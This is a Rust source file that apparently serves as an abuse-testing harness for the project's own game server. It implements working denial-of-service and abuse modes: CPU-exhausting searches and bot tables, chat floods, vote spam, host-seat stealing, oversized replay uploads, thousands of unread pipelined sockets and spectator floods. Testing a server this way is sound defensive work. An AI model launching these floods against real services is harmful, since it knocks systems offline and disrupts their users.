//! The attacks, one for each mode.

use std::time::Duration;

use futures_util::future::join_all;
use futures_util::{SinkExt, StreamExt};
use protocol::{FromClient, PROTOCOL, TableMade};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;
use tokio::time::{interval, sleep};
use tokio_tungstenite::client_async;
use tokio_tungstenite::tungstenite::Message;

use super::{Attacker, Mode};
use crate::long_round::long_record;

/// Number of tables attacked at once, where an attack creates its own.
const TABLES: usize = 10;
/// The most searches that one address may run at once.
const SEARCHES: usize = 16;
/// An empty board whose centre needs several blocking robots: every search runs until its time limit.
const ENDLESS: &str = "16x16_RA1-GP1-BA16-YP16-KH1-TA8_RH8";
/// Delay between two searches.
const NEXT_SEARCH: Duration = Duration::from_millis(500);
/// Fewer tables than one address may create per hour.
const TABLES_OF_BOTS: usize = 55;
/// Bots per table.
const BOTS: usize = 9;
/// Time between skips of the current target.
const CHIP: Duration = Duration::from_secs(3);
/// Writing seats per table.
const SEATS: usize = 5;
/// Interval between the messages of a seat.
const NEXT_TEXT: Duration = Duration::from_millis(50);
/// Maximum length of a note.
const LONG: usize = 500;
/// Interval between questions.
const NEXT_QUESTION: Duration = Duration::from_millis(100);
/// Polling interval.
const NEXT_POLL: Duration = Duration::from_millis(60);
/// Delay before a founder takes a seat.
const SLOWLY: Duration = Duration::from_secs(1);
/// Concurrent uploads.
const UPLOADS: usize = 5;
/// Concurrent connections.
const SOCKETS: usize = 2_000;
/// Pipelined requests per write.
const PIPELINED: usize = 200;
/// Delay before the next connection.
const NEXT_SOCKET: Duration = Duration::from_millis(100);
/// Concurrent spectators.
const WATCHERS: usize = 2_000;
/// Delay before reconnecting.
const NEXT_WATCHER: Duration = Duration::from_millis(500);

impl Attacker {
    /// Attacks until the future is dropped.
    pub(crate) async fn run(&self, mode: Mode) {
        match mode {
            Mode::Replays => self.replays().await,
            Mode::Sockets => self.sockets().await,
            Mode::Watchers => self.watchers().await,
            Mode::Bots => self.bots().await,
            Mode::Flood => self.flood().await,
            Mode::Questions => self.questions().await,
            Mode::Poller => self.poller().await,
            Mode::Analyses => self.analyses().await,
        }
    }

    /// Keeps as many long searches running as one address may have.
    async fn analyses(&self) {
        let question = json!({ "position": ENDLESS, "seconds": 30 }).to_string();
        let search =
            async |_: usize| match self.ask("POST", "/api/ricochet/analyse", &question).await {
                Ok((status, _)) => self.count(format!("searches answered with {status}")),
                Err(_) => self.count("searches without an answer in time"),
            };
        tokio::join!(self.neighbour(), self.repeat(SEARCHES, NEXT_SEARCH, search));
    }

    /// Tables of one address, all seats taken by the strongest bots, with a new target every few seconds: the most bot
    /// CPU time an address can cause.
    async fn bots(&self) {
        let attack = async || self.play_with_bots().await;
        let failure = "tables of bots that were refused or closed";
        tokio::join!(self.neighbour(), self.at_many_tables(TABLES_OF_BOTS, attack, failure));
    }

    async fn play_with_bots(&self) -> anyhow::Result<()> {
        let table = json!({
            "options": { "seats": BOTS + 1, "game": { "t": "ricochet", "black": true } },
            "bots": vec![10; BOTS],
        });
        let made = self.found(&table).await?;
        let mut guest = self.sit(&made.table, "Mallory", None).await?;
        self.count("tables of bots");
        let mut chip = interval(CHIP);
        loop {
            tokio::select! {
                message = guest.receive() => drop(message?),
                _ = chip.tick() => {
                    for command in [json!({ "t": "start" }), json!({ "t": "ask", "subject": "skip" })] {
                        guest.wants(command).await?;
                    }
                }
            }
        }
    }

    /// Floods tables with notes and chat messages of maximum length from many seats.
    async fn flood(&self) {
        let attack = async || self.flood_table().await;
        self.at_many_tables(TABLES, attack, "tables that were refused").await;
    }

    async fn flood_table(&self) -> anyhow::Result<()> {
        let made = self.found(&json!({ "options": { "game": { "t": "micro" } } })).await?;
        let seats = (0..SEATS).map(|seat| self.flood_seat(&made.table, seat));
        join_all(seats).await;
        Ok(())
    }

    async fn flood_seat(&self, table: &str, seat: usize) {
        if self.write_on(table, seat).await.is_err() {
            self.count("seats that were refused or closed");
        }
    }

    async fn write_on(&self, table: &str, seat: usize) -> anyhow::Result<()> {
        let mut guest = self.sit(table, &format!("Mallory {seat}"), None).await?;
        let mut beat = interval(NEXT_TEXT);
        let text = "🤖".repeat(LONG);
        loop {
            tokio::select! {
                message = guest.receive() => self.count_answer(&message?, "written"),
                _ = beat.tick() => {
                    guest.wants(json!({ "t": "write-note", "text": text })).await?;
                    guest.send(json!({ "t": "say", "text": text })).await?;
                }
            }
        }
    }

    /// Asks the table the same questions in a loop, betting that silence counts as consent.
    async fn questions(&self) {
        let attack = async || self.ask_and_ask().await;
        self.at_many_tables(TABLES, attack, "tables that were refused or closed").await;
    }

    /// The host and another player never answer.
    async fn ask_and_ask(&self) -> anyhow::Result<()> {
        let made = self.found(&json!({ "options": { "game": { "t": "ricochet" } } })).await?;
        let mut host = self.sit(&made.table, "Alice", Some(&made.token)).await?;
        let mut thinker = self.sit(&made.table, "Bob", None).await?;
        let mut asker = self.sit(&made.table, "Mallory", None).await?;
        host.wants(json!({ "t": "start" })).await?;
        let mut beat = interval(NEXT_QUESTION);
        let mut subjects = ["new-host", "end-early", "skip"].into_iter().cycle();
        loop {
            tokio::select! {
                message = host.receive() => drop(message?),
                message = thinker.receive() => drop(message?),
                message = asker.receive() => {
                    let message = message?;
                    self.count_answer(&message, "questions asked");
                    if !message["view"]["ending"].is_null() {
                        self.count("games that ended while everybody was silent");
                        return Ok(());
                    }
                }
                _ = beat.tick() => {
                    let subject = subjects.next().unwrap_or("skip");
                    asker.wants(json!({ "t": "ask", "subject": subject })).await?;
                }
            }
        }
    }

    /// Polls the list of tables and takes a seat before the founder, to become host.
    async fn poller(&self) {
        tokio::join!(self.poll(), self.found_slowly());
    }

    async fn poll(&self) {
        loop {
            if let Ok((_, answer)) = self.ask("GET", "/api/tables", "").await {
                let listed: Value = serde_json::from_str(answer.trim()).unwrap_or_default();
                let free = |table: &&Value| table["names"].as_array().is_some_and(Vec::is_empty);
                for table in listed.as_array().into_iter().flatten().filter(free) {
                    let table = table["table"].as_str().unwrap_or_default();
                    match self.sit(table, "Mallory", None).await {
                        Ok(_) => self.count("seats taken before the founder"),
                        Err(_) => self.count("seats refused"),
                    }
                }
            }
            sleep(NEXT_POLL).await;
        }
    }

    /// Creates listed tables whose founder takes a seat late.
    async fn found_slowly(&self) {
        loop {
            match self.founded().await {
                Ok(true) => self.count("founders who are host"),
                Ok(false) => self.count("tables stolen"),
                Err(_) => self.count("founders who were turned away"),
            }
        }
    }

    async fn founded(&self) -> anyhow::Result<bool> {
        let table = json!({ "door": "listed", "options": { "game": { "t": "micro" } } });
        let made: TableMade = self.host.post("/api/tables", &table).await?;
        sleep(SLOWLY).await;
        let mut founder = self.sit(&made.table, "Alice", Some(&made.token)).await?;
        loop {
            let message = founder.receive().await?;
            if message["t"] == "welcome" {
                return Ok(message["view"]["table"]["host"] == message["you"]);
            }
        }
    }

    /// Uploads the record of the longest legal round in a loop and requests a page near its end.
    async fn replays(&self) {
        let record = long_record(29, 98);
        let question = json!({ "record": record, "from": 2_800 }).to_string();
        let upload = async |_: usize| match self.ask("POST", "/api/replays", &question).await {
            Ok((status, body)) => {
                self.count(format!("answered with {status}"));
                self.add("bytes", body.len() as u64);
            }
            Err(_) => self.count("not answered"),
        };
        self.repeat(UPLOADS, Duration::ZERO, upload).await;
    }

    /// Very many connections of one address that send requests and never read the answers.
    async fn sockets(&self) {
        let question = format!("GET /api/openapi.json HTTP/1.1\r\nHost: {}\r\n\r\n", self.host.0);
        let questions = question.repeat(PIPELINED);
        let attack = async |_: usize| match self.connect().await {
            Ok(mut stream) => {
                self.count("connected");
                // The answers are never read: the write blocks once the buffers of both sides are full.
                while stream.write_all(questions.as_bytes()).await.is_ok() {}
                self.count("closed by the server");
            }
            Err(_) => self.count("not connected"),
        };
        // Connects again as soon as the server closes the connection.
        self.repeat(SOCKETS, NEXT_SOCKET, attack).await;
    }

    /// As many spectators as possible at the players' tables, reconnecting all the time.
    async fn watchers(&self) {
        let watch =
            async |place: usize| match self.watch(&self.tables[place % self.tables.len()]).await {
                Ok(end) => self.count(end),
                Err(_) => self.count("not connected"),
            };
        self.repeat(WATCHERS, NEXT_WATCHER, watch).await;
    }

    /// Watches until the server closes the connection, and returns the outcome.
    async fn watch(&self, table: &str) -> anyhow::Result<&'static str> {
        let url = format!("ws://{}/api/tables/{table}/socket", self.host.0);
        let (mut socket, _) = client_async(url, self.connect().await?).await?;
        let hello = FromClient::Hello { protocol: PROTOCOL, token: None, seen: None };
        socket.send(Message::text(serde_json::to_string(&hello)?)).await?;
        let mut welcome = false;
        while let Some(Ok(message)) = socket.next().await {
            welcome |= message.to_text().is_ok_and(|text| text.contains(r#""t":"welcome""#));
        }
        Ok(if welcome { "watched, and had to go" } else { "turned away" })
    }
}
